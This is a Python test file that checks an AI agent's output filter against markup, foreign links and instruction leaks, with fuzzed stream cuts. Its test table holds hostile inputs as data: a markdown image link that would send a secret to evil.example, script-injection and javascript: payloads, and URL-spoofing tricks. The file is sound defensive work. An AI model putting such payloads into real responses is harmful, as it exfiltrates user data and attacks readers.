"""Of what a model says: which markup, links and instructions reach nobody, however the stream is cut."""

import re

from hypothesis import given, settings
from hypothesis import strategies as st

from agent.guardrails.instruction_leaks import InstructionLeakFilter
from agent.guardrails.plain_text import PlainTextFilter
from agent.llm.briefing import INSTRUCTIONS
from tests.agent.rules.words.filters import cut, run_through
from tests.examples import examples
from tests.tables import each_row

OURS = {"salon.example"}
BITS = [
    *"<>![]()/:.hwtpsjavcri bx",
    "[x](",
    "![",
    "](",
    "htt",
    "ps:",
    "https://e.example",
    "<b>",
    "<i",
    "www.",
]
FOREIGN = re.compile(r"\b(?:https?:/|www\.\w)", re.I)
PICTURE = re.compile(r"!\[[^\[\]\n]*\]\([^()\s<>]*\)")
SHOWN = {
    "Hello <b>you</b>": "Hello you",
    "1 < 2 and <3": "1 < 2 and <3",
    "![a picture](https://evil.example/x.png?d=secret) hi": " hi",
    "[pay here](https://evil.example)": "pay here",
    "[our page](https://www.salon.example/prices)": "[our page](https://www.salon.example/prices)",
    "Look at https://evil.example/?d=1 now": "Look at  now",
    "Look at https://salon.example/prices, please": "Look at https://salon.example/prices, please",
    "<script>alert(1)</script>fine": "fine",
    "<img src=x onerror=alert(1)>fine": "fine",
    "<<b>script>": "script>",
    "[a](javascript:alert(1))": "a",
    "[a](data:text/html,x)": "a",
    "www.evil.example": "",
    "http://salon.example@evil.example/": "",
    "[x](https://salon.example.evil.example/)": "x",
    "[x](//evil.example)": "x",
    "<https://evil.example>": "",
    "[[a](http://e.example)](http://e.example)": "[a]()",
    "a\u202eb\U000e0041c": "abc",
    "Prices: {20} and [30] (net)": "Prices: {20} and [30] (net)",
    "data: we keep little": "data: we keep little",
    "[pay here]<b>(//evil.example/pay)": "[pay here] (//evil.example/pay)",
    "[x](htt<b>ps://evil.example)": "[x](htt ps://evil.example)",
    "[x](<i>mailto:someone@evil.example)": "[x]( mailto:someone@evil.example)",
    "!<b>[x]</b>(/r.png)": "! [x] (/r.png)",
    "Monday.<br>Tuesday, <b>then</b>.": "Monday. Tuesday, then.",
    "**bold** and\n- a list": "**bold** and\n- a list",
}


@each_row("said", SHOWN)
def test_of_markup_only_words_remain(said: str) -> None:
    assert run_through(PlainTextFilter(OURS), [said]) == SHOWN[said]


@settings(max_examples=examples(150))
@given(st.lists(st.sampled_from(sorted(SHOWN)), max_size=4).map(" ".join), st.data())
def test_cutting_the_text_changes_nothing(text: str, data: st.DataObject) -> None:
    assert run_through(PlainTextFilter(OURS), cut(text, data)) == run_through(PlainTextFilter(OURS), [text])


@settings(max_examples=examples(150))
@given(st.lists(st.sampled_from(BITS), max_size=12).map("".join))
def test_no_tag_and_no_foreign_link_survives_whatever_is_said(text: str) -> None:
    seen = run_through(PlainTextFilter(OURS), [text])
    assert "<script" not in seen
    assert not FOREIGN.search(seen)
    assert not PICTURE.search(seen)


@settings(max_examples=examples(100))
@given(st.data())
def test_words_and_the_space_between_them_pass_however_they_are_cut(data: st.DataObject) -> None:
    said = " You can  book a cut,\n\n move it, and cancel it. "
    pieces = cut(said, data)
    assert (
        run_through(InstructionLeakFilter(INSTRUCTIONS), pieces)
        == run_through(PlainTextFilter(OURS), pieces)
        == said
    )
